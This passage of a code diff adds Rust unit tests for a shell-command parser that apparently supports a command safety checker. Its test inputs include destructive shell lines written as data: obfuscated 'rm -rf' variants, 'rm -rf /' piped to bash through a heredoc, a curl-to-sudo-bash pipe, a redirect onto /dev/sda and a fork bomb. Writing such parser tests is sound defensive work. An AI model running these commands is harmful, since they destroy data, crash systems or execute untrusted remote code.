+            assert!(got.iter().any(|c| c == p), "{p} missing from {got:?}");
+        }
+    }
+
+    #[test]
+    fn removes_quotes_and_escapes_from_program_names() {
+        for line in [r"\rm -rf x", "r''m -rf x", "\"rm\" -rf x", r"$'\x72m' -rf x", r"$'\162m' -rf x", "'r'\"m\" -rf x"] {
+            let s = parse(line, "t", 0).expect("parses");
+            let w = &s.invocations[0].words[0];
+            assert_eq!(w.text, "rm", "{line}");
+            assert!(w.literal, "{line}");
+        }
+    }
+
+    #[test]
+    fn marks_dynamic_words() {
+        let s = parse("$x -rf \"$DIR\"/ *.log {a,b}", "t", 0).expect("parses");
+        let w = &s.invocations[0].words;
+        assert!(!w[0].literal);
+        assert_eq!(w[2].skeleton, "/");
+        assert!(w[3].pattern && !w[3].literal);
+        assert!(w[4].pattern);
+        assert!(w[1].literal);
+    }
+
+    #[test]
+    fn substitutions_inside_quotes_and_defaults_are_found() {
+        let got = programs(r#"echo "${X:-$(id)}" "`whoami`" $((1 + $(date +%s)))"#);
+        assert!(got.iter().any(|c| c == "id"), "{got:?}");
+        assert!(got.iter().any(|c| c == "whoami"), "{got:?}");
+        assert!(got.iter().any(|c| c.starts_with("date")), "{got:?}");
+    }
+
+    #[test]
+    fn heredocs_and_here_strings_become_stdin() {
+        let s = parse("bash <<EOF\nrm -rf /\nEOF\n", "t", 0).expect("parses");
+        assert!(matches!(&s.invocations[0].stdin, Stdin::Text(w) if w.text.contains("rm -rf /")));
+        let s = parse("sh <<< 'reboot'", "t", 0).expect("parses");
+        assert!(matches!(&s.invocations[0].stdin, Stdin::Text(w) if w.text == "reboot\n"));
+    }
+
+    #[test]
+    fn pipes_record_upstream() {
+        let s = parse("curl -s http://x | sudo bash", "t", 0).expect("parses");
+        assert_eq!(s.invocations[1].stdin, Stdin::Pipe(vec![0]));
+    }
+
+    #[test]
+    fn group_redirects_apply_to_inner_commands() {
+        let s = parse("{ echo a; echo b; } > /dev/sda", "t", 0).expect("parses");
+        assert!(s.invocations.iter().all(|i| i.redirects.iter().any(|r| r.target.text == "/dev/sda")));
+    }
+
+    #[test]
+    fn bad_syntax_and_deep_nesting_are_errors() {
+        assert!(matches!(parse("echo 'unterminated", "t", 0), Err(ShellError::Syntax { .. })));
+        assert!(matches!(parse("if then fi", "t", 0), Err(ShellError::Syntax { .. })));
+        let deep = format!("{}true{}", "(".repeat(200), ")".repeat(200));
+        assert!(matches!(parse(&deep, "t", 0), Err(ShellError::TooDeep { .. })));
+        let deep = format!("{}true{}", "$(".repeat(100), ")".repeat(100));
+        assert!(matches!(parse(&deep, "t", 0), Err(ShellError::TooDeep { .. })));
+    }
+
+    #[test]
+    fn functions_are_recorded() {
+        let s = parse(":(){ :|:& };:", "t", 0).expect("parses");
+        assert_eq!(s.functions.len(), 1);
+        assert_eq!(s.functions[0].name, ":");
+        assert_eq!(s.functions[0].body, 0..2);
+    }
+}
